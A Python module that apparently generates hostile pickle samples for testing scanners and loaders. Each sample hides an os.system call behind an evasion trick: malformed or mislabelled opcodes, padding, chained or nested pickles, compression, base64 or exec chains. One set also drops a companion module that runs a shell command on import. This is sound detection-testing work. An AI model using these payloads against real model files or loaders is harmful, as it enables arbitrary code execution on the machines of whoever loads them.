"""Raw pickles with broken, padded, repeated or lying streams, and pickles inside pickles."""

from __future__ import annotations

import base64
import bz2
import gzip
import struct
import zlib
from typing import Any

from .asm import Call, Computed, Global, Raw, Then, encode, pickled
from .pickle_opcodes import NAMED, SYSTEM, call, raw, text
from .sample import EXECUTES, Kit, Sample, gadget

G, C = Global, Call
HARMLESS = pickled({"weight": [1.0, 2.0], "name": "layer"}, 2)


def samples() -> list[Sample]:
    """All of this module."""
    return [*_broken(), *_lies(), *_padded(), *_numbers(), *_several(), *_nested(), *_texts()]


def _texts() -> list[Sample]:
    return [
        Sample(f"text-import/{number}/{name}", f"a text that a pickle loader takes for an import of the module beside it{more}",
               EXECUTES,
               lambda _, body=body: body, {"weight_notes.py": lambda k: f"import os\nos.system({k.shell!r})\n".encode()},
               ("weight_notes.author",), "pickle-here")
        for number, (name, body, more) in enumerate((
            ("notes.txt", b"cweight_notes\nauthor\n", ""),
            ("README.md", b"cweight_notes\nauthor\n\n# A model\n\nIt is small.\n", ", and fails"),
            ("labels.csv", b"cweight_notes\nauthor\nNewt\n", ", and fails after a value"),
        ))
    ]  # fmt: skip


def _hostile(kit: Kit, protocol: int = 2) -> bytes:
    return pickled(C(SYSTEM, kit.shell), protocol)


def _framed(body: bytes, claimed: int) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", claimed) + body


def _broken() -> list[Sample]:
    tails: dict[str, tuple[str, bytes]] = {
        "no-stop": ("the stream ends without STOP", b""),
        "unknown-opcode": ("an unknown opcode follows the call", b"\xff."),
        "missing-memo": ("a memo slot that was never set", b"h\x63."),
        "stack-underflow": ("POP on an empty stack", b"00000."),
        "missing-module": ("a module that does not exist", b"cno_such_module\nx\n."),
        "missing-attribute": ("an attribute that does not exist", b"cos\nno_such_name\n."),
        "bad-protocol": ("PROTO 99 after the call", b"\x80\x63."),
        "cut-string": ("a string longer than the file", b"X\xff\xff\xff\x7fabc"),
        "negative-length": ("a negative length", b"T\xff\xff\xff\xffabc."),
        "invalid-utf8": ("a string that is not UTF-8", b"X\x04\x00\x00\x00\xff\xfe\xfd\xfc."),
        "lone-mark": ("a MARK that is never closed", b"(((."),
        "no-mark": ("TUPLE without a MARK", b"t."),
        "bad-integer": ("INT that is not a number", b"Ixyz\n."),
        "bad-float": ("FLOAT that is not a number", b"Fxyz\n."),
        "bad-string": ("STRING without quotes", b"Sabc\n."),
        "bad-extension": ("EXT1 of an unregistered code", b"\x82\x01."),
        "persistent-id": ("BINPERSID without a persistent_load", b"Q."),
        "out-of-band": ("NEXT_BUFFER without buffers", b"\x97."),
        "call-of-number": ("REDUCE of a number", b"K\x01)R."),
        "newobj-of-function": ("NEWOBJ of a function", b"cos\ngetpid\n)\x81."),
        "unhashable": ("a list as a key", b"}]Ns."),
        "wrong-build": ("BUILD with a number as state", b"K\x05b."),
    }
    return [
        raw(
            f"broken-{name}",
            f"{technique}; the call has already run",
            lambda k, t=tail: b"\x80\x02" + call(k) + t,
            reference="GHSA-9gvj-pp9x-gcfr" if name == "no-stop" else "",
        )
        for name, (technique, tail) in tails.items()
    ]


def _lies() -> list[Sample]:
    def body(k: Kit) -> bytes:
        return encode(C(SYSTEM, k.shell), 4) + b"."

    return [
        raw(
            "protocol-0-byte",
            "PROTO 0 before opcodes of protocol 4",
            lambda k: b"\x80\x00" + encode(C(SYSTEM, k.shell), 4) + b".",
        ),
        raw(
            "protocol-5-text",
            "PROTO 5 before opcodes of protocol 0",
            lambda k: b"\x80\x05" + encode(C(SYSTEM, k.shell), 0) + b".",
        ),
        raw("protocol-missing", "protocol 4 opcodes without PROTO", body),
        raw(
            "protocol-repeated",
            "PROTO many times, with different numbers",
            lambda k: b"\x80\x02\x80\x05\x80\x00\x80\x04" + encode(C(SYSTEM, k.shell), 4) + b"\x80\x01.",
        ),
        raw(
            "protocol-in-arguments",
            "PROTO between the callable and its arguments",
            lambda k: b"\x80\x02cos\nsystem\n\x80\x04" + text(k.shell) + b"\x80\x01\x85R.",
        ),
        raw("frame-short", "a frame shorter than its opcodes", lambda k: _framed(body(k), 3)),
        raw("frame-zero", "a frame of length zero", lambda k: _framed(body(k), 0)),
        raw(
            "frame-many",
            "a frame around every opcode group",
            lambda k: (
                b"\x80\x04"
                + b"".join(
                    b"\x95" + struct.pack("<Q", len(part)) + part
                    for part in (encode(SYSTEM, 4), encode(k.shell, 4), b"\x85R.")
                )
            ),
        ),
        raw(
            "frame-nested",
            "a frame opcode inside a frame",
            lambda k: _framed(b"\x95" + struct.pack("<Q", 5) + body(k), 9 + len(body(k))),
        ),
        raw(
            "frame-after-call",
            "a frame that is longer than the file, after the call",
            lambda k: b"\x80\x04" + encode(C(SYSTEM, k.shell), 4) + b"\x95" + struct.pack("<Q", 1 << 40) + b".",
        ),
        raw("unframed-4", "protocol 4 without any frame", lambda k: b"\x80\x04" + body(k)),
        raw(
            "memoize-everything",
            "MEMOIZE after every opcode",
            lambda k: (
                b"\x80\x04"
                + text("os")
                + b"\x94"
                + text("system")
                + b"\x94\x93\x94"
                + text(k.shell)
                + b"\x94\x85\x94R\x94."
            ),
        ),
        raw(
            "crlf-global",
            "GLOBAL whose decoy lines hold control characters",
            lambda k: b"\x80\x02V\x1b[2J\x1b[H\n0" + call(k) + b".",
        ),
        raw(
            "global-non-ascii",
            "a decoy GLOBAL argument in UTF-8 before the call",
            lambda k: b"\x80\x02" + text("\u043es") + b"0" + text("\u202esystem") + b"0" + call(k) + b".",
        ),
        raw(
            "surrogates",
            "a lone surrogate in a string before the call",
            lambda k: b"\x80\x02X\x03\x00\x00\x00\xed\xa0\x800" + call(k) + b".",
        ),
        raw(
            "starts-like-zip",
            "the memo holds what looks like a zip header",
            lambda k: b"\x80\x02" + b"U\x1ePK\x03\x04\x14\x00\x00\x00" + b"\x00" * 22 + b"0" + call(k) + b".",
            reference="GHSA-7q5r-7gvp-wc82",
        ),
        raw(
            "starts-like-json",
            "protocol 0 that begins with JSON-like text",
            lambda k: b'V{"architectures": ["BertModel"]}\n0' + encode(C(SYSTEM, k.shell), 0) + b".",
        ),
        raw(
            "starts-like-text",
            "protocol 0 that begins with an INT written as a date",
            lambda k: b"I20260101\n0" + encode(C(SYSTEM, k.shell), 0) + b".",
        ),
    ]


def _padded() -> list[Sample]:
    return [
        raw(
            "padding-none", "400,000 opcodes before the call", lambda k: b"\x80\x02" + b"N0" * 200_000 + call(k) + b"."
        ),
        raw(
            "padding-string",
            "a string of 4 MB before the call",
            lambda k: b"\x80\x02X" + struct.pack("<I", 4 << 20) + b"a" * (4 << 20) + b"0" + call(k) + b".",
        ),
        raw(
            "padding-globals",
            "3,000 allow-listed globals before the call",
            lambda k: b"\x80\x02" + b"ccollections\nOrderedDict\n0" * 3000 + call(k) + b".",
        ),
        raw(
            "padding-calls",
            "3,000 allow-listed calls before the call",
            lambda k: b"\x80\x02" + b"ccollections\nOrderedDict\n)R0" * 3000 + call(k) + b".",
        ),
        raw(
            "padding-memo",
            "100,000 memo slots before the call",
            lambda k: (
                b"\x80\x02" + b"".join(b"Nr" + struct.pack("<I", i) + b"0" for i in range(100_000)) + call(k) + b"."
            ),
        ),
        raw("padding-marks", "50,000 open marks", lambda k: b"\x80\x02" + b"(" * 50_000 + call(k) + b"."),
        raw(
            "deep-tuples",
            "a tuple nested 20,000 deep before the call",
            lambda k: b"\x80\x02)" + b"\x85" * 20_000 + call(k) + b"0.",
        ),
        raw(
            "deep-lists",
            "a list nested 20,000 deep with the call at the bottom",
            lambda k: b"\x80\x02" + b"]" * 20_000 + call(k) + b"a" * 20_000 + b".",
        ),
        raw(
            "many-calls",
            "2,000 harmless calls after the dangerous one, with long arguments",
            lambda k: b"\x80\x02" + call(k) + (b"0ccollections\nOrderedDict\n)R") * 2000 + b".",
        ),
        raw("padding-after-stop", "1 MB of zeros after STOP", lambda k: _hostile(k) + bytes(1 << 20)),
        raw("text-after-stop", "text after STOP", lambda k: _hostile(k) + b"\nthis is a comment\n"),
    ]


def _numbers() -> list[Sample]:
    prefix: dict[str, tuple[str, bytes]] = {
        "int-hex": ("INT in hexadecimal", b"I0x1F\n0"),
        "int-octal": ("INT in octal with prefix", b"I0o17\n0"),
        "int-binary": ("INT in binary", b"I0b11\n0"),
        "int-underscore": ("LONG with underscores", b"L1_000L\n0"),
        "int-plus": ("INT with sign and spaces", b"I +7 \n0"),
        "int-bool": ("INT 01 is True", b"I01\n0"),
        "long-hex": ("LONG in hexadecimal", b"L0xffL\n0"),
        "long-many-digits": ("LONG of 4,000 digits", b"L" + b"9" * 4000 + b"L\n0"),
        "long1-empty": ("LONG1 of length zero", b"\x8a\x000"),
        "long4-large": ("LONG4 of 100,000 bytes", b"\x8b" + struct.pack("<i", 100_000) + b"\x7f" * 100_000 + b"0"),
        "float-inf": ("FLOAT inf", b"Finf\n0"),
        "float-exponent": ("FLOAT with an exponent", b"F1e-5\n0"),
        "binfloat-nan": ("BINFLOAT NaN", b"G\x7f\xf8\x00\x00\x00\x00\x00\x000"),
        "bytearray": ("BYTEARRAY8 before the call", b"\x96" + struct.pack("<Q", 3) + b"abc0"),
        "string-double-quotes": ("STRING in double quotes", b'S"a\'b"\n0'),
    }
    return [
        raw(f"number-{name}", f"{technique} before the call", lambda k, p=head: b"\x80\x02" + p + call(k) + b".")
        for name, (technique, head) in prefix.items()
    ]


def _several() -> list[Sample]:
    return [
        raw(
            "second-pickle",
            "a harmless pickle, then a hostile one, read in a row",
            lambda k: HARMLESS + _hostile(k),
            loader="pickle-all",
        ),
        raw("tenth-pickle", "nine harmless pickles first", lambda k: HARMLESS * 9 + _hostile(k), loader="pickle-all"),
        raw("hostile-then-harmless", "a hostile pickle, then a harmless one", lambda k: _hostile(k) + HARMLESS),
        raw(
            "shared-memo",
            "two pickles in a row; the second takes its module name from the memo of the first",
            lambda k: (
                b"\x80\x02"
                + text("os")
                + b"q\x00"
                + text("system")
                + b"q\x01."
                + b"\x80\x04h\x00h\x01\x93"
                + text(k.shell)
                + b"\x85R."
            ),
            loader="pickle-unpickler",
        ),
        raw(
            "protocol-0-then-4",
            "a pickle of protocol 0, then one of protocol 4",
            lambda k: pickled({"a": 1}, 0) + _hostile(k, 4),
            loader="pickle-all",
        ),
    ]


def _nested() -> list[Sample]:
    def nested(name: str, technique: str, build: Any, **options: Any) -> Sample:
        return gadget(f"nested-{name}", technique, build, calls=options.pop("calls", NAMED), **options)

    return [
        nested(
            "pickle-loads",
            "pickle.loads of bytes",
            lambda k: C(G("pickle.loads"), _hostile(k)),
            reference="GHSA-84r2-jw7c-4r5q",
        ),
        nested(
            "c-pickle-loads",
            "_pickle.loads of bytes",
            lambda k: C(G("_pickle.loads"), _hostile(k)),
            reference="GHSA-84r2-jw7c-4r5q",
        ),
        nested("pickle-private", "pickle._loads of bytes", lambda k: C(G("pickle._loads"), _hostile(k))),
        nested(
            "unpickler-load",
            "pickle.Unpickler(BytesIO).load",
            lambda k: C(G("pickle", "Unpickler.load"), C(G("pickle.Unpickler"), C(G("io.BytesIO"), _hostile(k)))),
            calls=(*NAMED, "pickle.Unpickler.load"),
        ),
        nested(
            "pickle-load-stream",
            "pickle.load of BytesIO",
            lambda k: C(G("pickle.load"), C(G("io.BytesIO"), _hostile(k))),
        ),
        nested(
            "forking-pickler",
            "multiprocessing's alias of pickle.loads",
            lambda k: C(G("multiprocessing.reduction", "ForkingPickler.loads"), _hostile(k)),
            calls=(*NAMED, "multiprocessing.reduction.ForkingPickler.loads"),
        ),
        nested(
            "three-levels",
            "loads of loads of loads",
            lambda k: C(
                G("pickle.loads"), pickled(C(G("pickle.loads"), pickled(C(G("pickle.loads"), _hostile(k)), 4)), 4)
            ),
        ),
        nested(
            "zlib",
            "pickle.loads of zlib.decompress",
            lambda k: C(G("pickle.loads"), C(G("zlib.decompress"), zlib.compress(_hostile(k)))),
            calls=("pickle.loads",),
        ),
        nested(
            "gzip",
            "pickle.loads of gzip.decompress",
            lambda k: C(G("pickle.loads"), C(G("gzip.decompress"), gzip.compress(_hostile(k), mtime=0))),
            calls=("pickle.loads",),
        ),
        nested(
            "bz2",
            "pickle.loads of bz2.decompress",
            lambda k: C(G("pickle.loads"), C(G("bz2.decompress"), bz2.compress(_hostile(k)))),
            calls=("pickle.loads",),
        ),
        nested(
            "base64",
            "pickle.loads of base64",
            lambda k: C(G("pickle.loads"), C(G("base64.b64decode"), base64.b64encode(_hostile(k)))),
            calls=("pickle.loads",),
        ),
        nested(
            "latin1-bytes", "pickle.loads of _codecs.encode", lambda k: C(G("pickle.loads"), _hostile(k)), protocol=2
        ),
        nested(
            "exec-compressed",
            "exec of a decompressed source",
            lambda k: C(G("builtins.exec"), C(G("zlib.decompress"), zlib.compress(k.code.encode()))),
            calls=("builtins.exec",),
        ),
        nested(
            "own-loads-of-safe",
            "loads of a harmless pickle that only returns a module name",
            lambda k: C(Computed(C(G("pickle.loads"), pickled("os", 4)), "system"), k.shell),
            calls=("pickle.loads", *NAMED),
        ),
        nested(
            "shelf-of-memory",
            "shelve.Shelf over a dict",
            lambda k: C(G("shelve", "Shelf.get"), C(G("shelve.Shelf"), {b"a": _hostile(k)}), "a"),
            calls=("shelve.Shelf.get", "shelve.Shelf"),
        ),
        nested(
            "proxy-copy",
            "copy.deepcopy reduces and calls",
            lambda k: Then(C(G("copy.deepcopy"), C(G("copy._reconstruct"), None, None, SYSTEM, (k.shell,)))),
            calls=(*NAMED, "copy._reconstruct"),
        ),
        nested(
            "eval-of-repr",
            "ast and eval",
            lambda k: C(
                G("builtins.eval"), C(G("builtins.compile"), C(G("ast.parse"), k.code, "x", "eval"), "x", "eval")
            ),
            calls=("builtins.eval",),
        ),
        nested(
            "raw-bytes-literal",
            "a hostile pickle as an inert bytes value next to its loads",
            lambda k: C(G("pickle.loads"), Raw(encode(_hostile(k), 4))),
        ),
    ]
